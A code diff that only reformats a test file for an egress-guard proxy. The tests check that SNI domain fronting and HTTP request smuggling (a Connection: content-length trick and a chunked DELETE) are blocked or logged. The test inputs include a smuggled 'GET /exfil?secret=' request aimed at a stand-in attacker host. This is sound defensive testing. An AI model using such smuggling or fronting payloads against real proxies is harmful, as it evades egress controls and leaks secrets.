@@ -59,7 +59,16 @@ describe('block mode: what is not allowed never reaches a server', () => {
 
   test('a CONNECT to an allowed host whose ClientHello names a host not allowed (SNI) is reset before it is relayed', async () => {
     // curl sends CONNECT allowed.test and, inside the tunnel, SNI blocked.test.
-    const r = await runProcess('curl', ['-sS', '--cacert', caFile, '-x', guard.proxyUrl, '--connect-to', `blocked.test:${secure.port}:allowed.test:${secure.port}`, `https://blocked.test:${secure.port}/fronted`]);
+    const r = await runProcess('curl', [
+      '-sS',
+      '--cacert',
+      caFile,
+      '-x',
+      guard.proxyUrl,
+      '--connect-to',
+      `blocked.test:${secure.port}:allowed.test:${secure.port}`,
+      `https://blocked.test:${secure.port}/fronted`,
+    ]);
     assert.notEqual(r.code, 0, r.stdout);
     assert.ok(!secure.requests.some((q) => q.url.includes('fronted')), 'the server never saw the request');
     const allowed = await guard.waitFor((l) => l.event === 'decision' && l.kind === 'connect' && l.host === 'allowed.test' && l.port === secure.port);
@@ -127,14 +136,23 @@ describe('block mode: what is not allowed never reaches a server', () => {
       const port = upstream.port;
       const smuggled = `GET /exfil?secret=s3cr3t HTTP/1.1\r\nHost: attacker.test\r\n\r\n`;
       // Connection names Content-Length: stripping it would leave the body unframed, read as a request.
-      const a = await rawExchange(guard.port, `GET http://allowed.test:${port}/a HTTP/1.1\r\nHost: allowed.test:${port}\r\nConnection: content-length\r\nContent-Length: ${smuggled.length}\r\n\r\n${smuggled}`, { untilText: '\r\n\r\n' });
+      const a = await rawExchange(
+        guard.port,
+        `GET http://allowed.test:${port}/a HTTP/1.1\r\nHost: allowed.test:${port}\r\nConnection: content-length\r\nContent-Length: ${smuggled.length}\r\n\r\n${smuggled}`,
+        { untilText: '\r\n\r\n' },
+      );
       assert.match(a, /^HTTP\/1\.1 200/);
       // A chunked DELETE: http-proxy would send it as content-length 0 and stream the body after it.
       const chunk = `${smuggled.length.toString(16)}\r\n${smuggled}\r\n0\r\n\r\n`;
-      const del = await rawExchange(guard.port, `DELETE http://allowed.test:${port}/b HTTP/1.1\r\nHost: allowed.test:${port}\r\nTransfer-Encoding: chunked\r\n\r\n${chunk}`, { untilText: '\r\n\r\n' });
+      const del = await rawExchange(guard.port, `DELETE http://allowed.test:${port}/b HTTP/1.1\r\nHost: allowed.test:${port}\r\nTransfer-Encoding: chunked\r\n\r\n${chunk}`, {
+        untilText: '\r\n\r\n',
+      });
       assert.match(del, /^HTTP\/1\.1 400/);
       await new Promise((r) => setTimeout(r, 300));
-      assert.deepEqual(upstream.requests.map((q) => [q.method, q.url, q.host]), [['GET', '/a', `allowed.test:${port}`]]);
+      assert.deepEqual(
+        upstream.requests.map((q) => [q.method, q.url, q.host]),
+        [['GET', '/a', `allowed.test:${port}`]],
+      );
       assert.equal(upstream.requests[0]!.body.toString(), smuggled, 'the body arrived as the body of /a');
     } finally {
       await upstream.close();
@@ -174,7 +192,8 @@ describe('audit mode: everything passes, would-be blocks are logged', () => {
     caFile = join(mkdtempSync(join(tmpdir(), 'eg-audit-')), 'ca.pem');
     writeFileSync(caFile, testCa().certPem);
     guard = await startEgressGuard(['--resolve', 'allowed.test=127.0.0.1', '--resolve', 'other.test=127.0.0.1'], {
-      EGRESS_MODE: 'audit', EGRESS_ALLOWED_ENDPOINTS: 'allowed.test:*',
+      EGRESS_MODE: 'audit',
+      EGRESS_ALLOWED_ENDPOINTS: 'allowed.test:*',
     });
   });
 
@@ -210,7 +229,16 @@ describe('audit mode: everything passes, would-be blocks are logged', () => {
   });
 
   test('a CONNECT whose SNI names a host not allowed is relayed and logged would-block', async () => {
-    const r = await runProcess('curl', ['-sS', '--cacert', caFile, '-x', guard.proxyUrl, '--connect-to', `other.test:${secure.port}:allowed.test:${secure.port}`, `https://other.test:${secure.port}/fronted-audit`]);
+    const r = await runProcess('curl', [
+      '-sS',
+      '--cacert',
+      caFile,
+      '-x',
+      guard.proxyUrl,
+      '--connect-to',
+      `other.test:${secure.port}:allowed.test:${secure.port}`,
+      `https://other.test:${secure.port}/fronted-audit`,
+    ]);
     assert.equal(r.code, 0, r.stderr);
     assert.ok(secure.requests.some((q) => q.url === '/fronted-audit'));
     const event = await guard.waitFor((l) => l.event === 'decision' && l.kind === 'connect' && l.reason === 'sni-mismatch');
